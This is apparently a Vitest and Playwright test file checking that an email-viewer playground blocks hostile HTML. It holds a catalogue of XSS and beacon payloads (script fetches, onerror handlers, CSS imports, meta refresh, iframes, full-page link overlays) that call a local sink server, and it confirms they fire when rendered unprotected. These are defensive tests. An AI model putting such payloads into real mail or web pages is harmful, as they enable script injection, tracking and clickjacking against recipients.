/** Html that wants out: nothing of it runs, and no request leaves. */

import { createServer, type Server } from "node:http";
import type { Page, Request } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { listen } from "../../.build/playground.js";
import { buildMime } from "../../src/index.js";
import { describeInChromium, drop, openedSubject } from "./browser.js";

/** A machine of the sender's, that writes down who asks. */
const asked: string[] = [];
let sink: Server;
let there: string;
beforeAll(async () => {
  sink = createServer(({ url }, response) => {
    asked.push(url ?? "");
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.end();
  });
  there = await listen(sink, 0);
});
afterAll(() => sink.close());

/** Each tells its number to the sink when it gets its way; the link covers the frame. */
const attempts = (to: string): Record<string, string> => ({
  script: `<script>fetch("${to}script");top.document.title="taken";alert(1)</script>`,
  "script from afar": `<script src="${to}src"></script>`,
  module: `<script type=module>import("${to}module")</script>`,
  onerror: `<img src=x onerror="fetch('${to}onerror');top.document.title='taken';alert(2)">`,
  onload: `<svg onload="fetch('${to}onload');alert(3)"></svg><body onload="fetch('${to}body')">`,
  autofocus: `<input autofocus onfocus="fetch('${to}focus')">`,
  image: `<img src="${to}image">`,
  "image set": `<img srcset="${to}srcset 1x"><picture><source srcset="${to}picture"><img></picture>`,
  background: `<table background="${to}background"><tr><td>a</table>`,
  "css url": `<style>body{background:url(${to}css)}</style><p style="background:url('${to}style')">a`,
  "css import": `<style>@import "${to}import.css";@font-face{font-family:f;src:url(${to}font)}p{font-family:f}</style>`,
  stylesheet: `<link rel=stylesheet href="${to}link"><link rel=preload as=image href="${to}preload">`,
  "link hints": `<link rel=prefetch href="${to}prefetch"><link rel=preconnect href="${to}">`,
  refresh: `<meta http-equiv=refresh content="0;url=${to}refresh">`,
  base: `<base href="${to}"><img src="base"><base target=_top>`,
  object: `<object data="${to}object"></object><embed src="${to}embed">`,
  frame: `<iframe src="${to}frame"></iframe><iframe srcdoc="<script>fetch('${to}inner')</script>"></iframe>`,
  media: `<video src="${to}video" poster="${to}poster" autoplay></video><audio src="${to}audio" autoplay></audio>`,
  form: `<form action="${to}form" method=post><button autofocus>send</button></form>`,
  portal: `<a ping="${to}ping" href="javascript:fetch('${to}javascript')">a</a>`,
  svg: `<svg><image href="${to}svg"/><use href="${to}use#a"/><script>fetch("${to}svgscript")</script></svg>`,
  link: `<a href="${to}link-clicked" style="position:fixed;inset:0">everywhere</a>`,
  "link to the top": `<a href="${to}top-clicked" target="_top" style="position:fixed;inset:0">everywhere</a>`,
  "link in place": `<a href="${to}self-clicked" target="_self" style="position:fixed;inset:0">everywhere</a>`,
  "send by hand": `<form action="${to}sent"><button style="position:fixed;inset:0;width:100%">send</button></form>`,
});
const names = Object.keys(attempts("/"));

/** Opens a mail with some html, clicks into its frame, and waits as long as any of it might take. */
async function openAndClick(page: Page, subject: string, html: string): Promise<void> {
  await drop(page, "hostile.eml", buildMime({ subject, html: `<p>a mail</p>${html}` }));
  expect(await openedSubject(page)).toBe(subject);
  const frame = await page.waitForSelector("iframe");
  const box = await frame.boundingBox();
  await page.waitForTimeout(300);
  if (box !== null) await page.mouse.click(box.x + 200, box.y + 200);
  await page.keyboard.press("Enter");
  await page.waitForTimeout(300);
}

describeInChromium("hostile html", ({ open, browser }) => {
  test.each(names)("%s", async (name) => {
    const page = await open({ online: true });
    const html = attempts(there)[name] ?? "";
    const home = page.url();
    const pages: Page[] = [];
    const dialogs: string[] = [];
    page.context().on("page", (other) => pages.push(other));
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const requests: Request[] = [];
    page.on("request", (request) => requests.push(request));
    asked.length = 0;
    await openAndClick(page, name, html);
    expect({ asked, dialogs, pages: pages.length }).toEqual({ asked: [], dialogs: [], pages: 0 });
    // Chromium tells of some requests that its policy refused: those did not leave.
    const left = requests.filter((request) => request.failure()?.errorText !== "csp");
    expect(left.map((request) => request.url()).filter((url) => !/^(?:data|blob|about):/.test(url))).toEqual(
      [],
    );
    expect({ url: page.url(), title: await page.title() }).toEqual({
      url: home,
      title: "gmail-mime playground",
    });
    await page.context().close();
  });

  test("the sink hears of them where nobody holds them back", async () => {
    for (const name of ["script", "onerror", "image", "css url", "refresh", "object", "link", "form"]) {
      asked.length = 0;
      const context = await browser().newContext();
      const page = await context.newPage();
      page.on("dialog", (dialog) => void dialog.dismiss());
      await page.setContent(`<p>a mail</p>${attempts(there)[name]}`, { waitUntil: "commit" });
      await page.waitForTimeout(300);
      if (name === "form") await page.click("button");
      else await page.mouse.click(200, 200);
      await page.waitForTimeout(300);
      expect({ name, asked: asked.length > 0 }).toEqual({ name, asked: true });
      await context.close();
    }
  });

  test("hostile names and values are text, wherever they are shown", async () => {
    const page = await open({ online: true });
    const evil = '<img src=x onerror="document.title=1"><script>document.title=2</script>';
    asked.length = 0;
    await drop(
      page,
      `${evil}.eml`,
      buildMime({
        subject: evil,
        from: { name: evil, address: "a@b.example" },
        text: evil,
        headers: [{ name: "X-Evil", value: evil }],
        attachments: [{ filename: evil, content: evil, contentType: "text/plain" }],
      }),
    );
    await page.waitForSelector("#mail:not([hidden])");
    expect(await page.innerText("#subject")).toBe(evil);
    for (const view of ["text", "fields", "source", "payload"]) {
      await page.click(`#view-${view}`);
      await page.waitForTimeout(100);
    }
    expect(await page.locator("#mail img, #mail script, #status img").count()).toBe(0);
    expect(await page.title()).toBe("gmail-mime playground");
    expect(asked).toEqual([]);
  });

  test("the page itself may load nothing and send nothing", async () => {
    const page = await open({ online: true });
    asked.length = 0;
    const outcomes = await page.evaluate(async (to) => {
      const image = new Promise((resolve) => {
        const element = new Image();
        element.onload = () => resolve("loaded");
        element.onerror = () => resolve("refused");
        element.src = `${to}image`;
      });
      const fetched = fetch(`${to}fetch`).then(
        () => "loaded",
        () => "refused",
      );
      return [await image, await fetched];
    }, there);
    expect(outcomes).toEqual(["refused", "refused"]);
    expect(asked).toEqual([]);
  });
});
